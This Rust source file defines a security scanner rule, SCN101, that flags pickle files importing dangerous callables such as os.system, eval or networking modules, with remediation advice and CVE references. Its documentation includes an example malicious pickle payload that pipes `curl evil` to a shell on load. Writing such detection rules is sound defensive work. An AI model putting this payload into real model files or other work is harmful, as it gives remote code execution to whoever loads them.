//! `SCN101 pickle-dangerous-global`: A pickle imports or calls a known-dangerous callable.
//!
//! The full text (what it detects, why it matters, an example, remediation, references) is
//! [`RULE`]`.doc`, shown by `aigis rules SCN101`.

use aigis_core::{RuleInfo, Severity};

/// `SCN101 pickle-dangerous-global`.
pub static RULE: RuleInfo = RuleInfo {
    id: "SCN101",
    name: "pickle-dangerous-global",
    severity: Severity::Critical,
    summary: "A pickle imports or calls a known-dangerous callable.",
    doc: "## What it detects\n`GLOBAL`, `STACK_GLOBAL` or `INST` naming a callable on the denylist: process execution (`os`, `posix`, `subprocess`), code evaluation (`builtins.eval`, `exec`, `compile`), module loading (`importlib`, `pkgutil`, `runpy`), nested deserialisers (`pickle.loads`, `torch.load`), networking, file access, `ctypes`, `marshal`, `pip` and more, matched on every prefix of the module path.\n\n## Why it matters\nUnpickling imports the named callable and the file decides the arguments; the classic model-file backdoor is `posix.system` called by `REDUCE` on load.\n\n## Example\n`cposix\\nsystem\\n(S'curl evil | sh'\\ntR.`\n\n## Remediation\nDo not load the file. Obtain the model from a trusted source in a safe format (safetensors), or load with `torch.load(weights_only=True)` after verifying its signature.\n\n## References\n- https://docs.python.org/3/library/pickle.html\n- CVE-2025-1716 (pip.main)\n- CVE-2025-10157 (asyncio submodules)\n",
    cwe: &[502, 94],
};
